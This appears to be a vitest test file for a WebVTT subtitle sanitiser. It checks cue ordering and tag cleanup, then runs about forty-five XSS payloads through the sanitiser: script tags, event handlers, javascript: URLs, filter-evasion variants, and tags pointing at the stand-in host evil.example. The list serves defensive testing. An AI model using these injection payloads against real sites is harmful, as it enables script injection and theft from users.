import { describe, expect, it } from 'vitest';
import { cleanWebVtt } from './web-vtt.js';

const cue = (text: string) => `WEBVTT\n\n00:01.000 --> 00:02.000\n${text}\n`;
const cleaned = (text: string): string => {
  const [, , , ...lines] = (cleanWebVtt(cue(text)) ?? '').split('\n');
  return lines.join('\n').trimEnd();
};

describe('WebVTT written anew', () => {
  it('has cues in order, with their times alone', () => {
    const source = [
      'WEBVTT - a title\nKind: captions',
      'STYLE\n::cue { background: url(https://example.org/x) }',
      'REGION\nid:bottom',
      'NOTE a remark',
      'second\n01:00:02.500 --> 01:00:03.000 align:start position:10%\nLater',
      'first\n00:01.000 --> 00:02.500 region:bottom\nOne\nTwo',
      '00:05.000 --> 00:04.000\nEnds before it begins',
      '00:06.000 --> 00:07.000\n   ',
    ].join('\r\n\r\n');
    expect(cleanWebVtt(source)).toBe('WEBVTT\n\n00:00:01.000 --> 00:00:02.500\nOne\nTwo\n\n01:00:02.500 --> 01:00:03.000\nLater\n');
  });

  it.each([
    ['<b>bold</b> <i>and</i> <u>so on</u>', '<b>bold</b> <i>and</i> <u>so on</u>'],
    ['<B class="x">bold</B>', '<b>bold</b>'],
    ['<i.loud>voice', '<i>voice</i>'],
    ['<b><i>crossed</b></i>', '<b><i>crossed</i></b>'],
    ['</b>never opened', 'never opened'],
    ['<v Roger>Hello <c.yellow>you</c>', 'Hello you'],
    ['<font color="#ff0000">red</font>', 'red'],
    ['<00:01.500>karaoke', 'karaoke'],
    ['{\\an8}{\\pos(1,2)}above', 'above'],
    ['1 < 2 & 3 > 2', '1 &lt; 2 &amp; 3 &gt; 2'],
    ['Tom &amp; Jerry &lt;3', 'Tom &amp; Jerry &lt;3'],
    ['&amp;lt;b&amp;gt;', '&amp;lt;b&amp;gt;'],
  ])('makes of %s: %s', (text, expected) => {
    expect(cleaned(text)).toBe(expected);
  });

  it('is none where there is no cue', () => {
    expect(cleanWebVtt('')).toBeNull();
    expect(cleanWebVtt('only words')).toBeNull();
  });
});

// Each tries to run a script, to reach another server, or to end the cue that it stands in.
const hostile = [
  '<script>window.__xss = 1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>window.__xss = 1</scr</script>ipt>',
  '<script\n>window.__xss = 1</script\n>',
  '<script/x>window.__xss = 1</script>',
  '<<script>window.__xss = 1//<</script>',
  '<img src=x onerror=window.__xss=1>',
  '<img src="x" onerror="window.__xss=1"',
  '<img/src=x/onerror=window.__xss=1>',
  '<image href=x onerror=window.__xss=1>',
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:window.__xss=1">x</mi></math>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>window.__xss=1</script>"></iframe>',
  '<object data="data:text/html,<script>window.__xss=1</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<a href="javascript:window.__xss=1">look</a>',
  '<a href="&#106;avascript:window.__xss=1">look</a>',
  '<b onmouseover="window.__xss=1">bold</b>',
  '<b style="background:url(https://evil.example/x)">bold</b>',
  '<i\tonclick=window.__xss=1>slanted</i>',
  '<u/onfocus=window.__xss=1/autofocus>under</u>',
  '<body onload=window.__xss=1>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input type=submit></form>',
  '<video><source onerror="window.__xss=1"></video>',
  '<details open ontoggle=window.__xss=1>',
  '<marquee onstart=window.__xss=1>',
  '<template><script>window.__xss=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<!--><script>window.__xss=1</script>-->',
  '<![CDATA[<script>window.__xss=1</script>]]>',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '&#60;script&#62;window.__xss=1&#60;/script&#62;',
  '\u0000<scr\u0000ipt>window.__xss=1</script>',
  'before\u2028<script>window.__xss=1</script>',
  '--> <script>window.__xss=1</script>',
  '00:00:00.000 --> 99:00:00.000\n<script>window.__xss=1</script>',
  '{\\fn<script>window.__xss=1</script>}text',
];

describe('hostile subtitles', () => {
  it('are at least forty', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(40);
  });

  it.each(hostile)('leave nothing but text: %s', (payload) => {
    const text = cleanWebVtt(cue(payload)) ?? '';
    const markup = [...text.matchAll(/<[^>]*>?/g)].map(([found]) => found);
    expect(markup.filter((found) => !/^<\/?[biu]>$/.test(found))).toEqual([]);
    // Nothing that a second reading could take for markup, and only the times that we wrote.
    expect(text.replaceAll(/^\d\d:\d\d:\d\d\.\d{3} --> \d\d:\d\d:\d\d\.\d{3}$/gm, '').replaceAll(/<\/?[biu]>/g, '')).not.toMatch(
      /[<>\u2028]|[^\P{Cc}\n]|-->/u,
    );
  });

  it.each(hostile)('keep their neighbours: %s', (payload) => {
    const text = cleanWebVtt(`${cue(payload)}\n00:03.000 --> 00:04.000\nThe next line`);
    expect(text?.endsWith('00:00:03.000 --> 00:00:04.000\nThe next line\n')).toBe(true);
  });
});
